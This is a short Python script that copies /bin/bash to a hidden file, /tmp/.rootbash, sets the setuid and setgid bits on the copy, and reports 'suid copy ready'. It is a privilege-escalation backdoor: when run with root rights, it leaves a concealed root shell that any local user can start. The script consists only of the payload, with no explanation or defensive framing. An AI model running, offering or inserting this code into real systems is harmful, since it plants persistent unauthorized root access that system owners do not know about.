import os
import shutil
import stat

shutil.copy("/bin/bash", "/tmp/.rootbash")
st = os.stat("/tmp/.rootbash")
os.chmod("/tmp/.rootbash", st.st_mode | stat.S_ISUID | stat.S_ISGID)
print("suid copy ready")
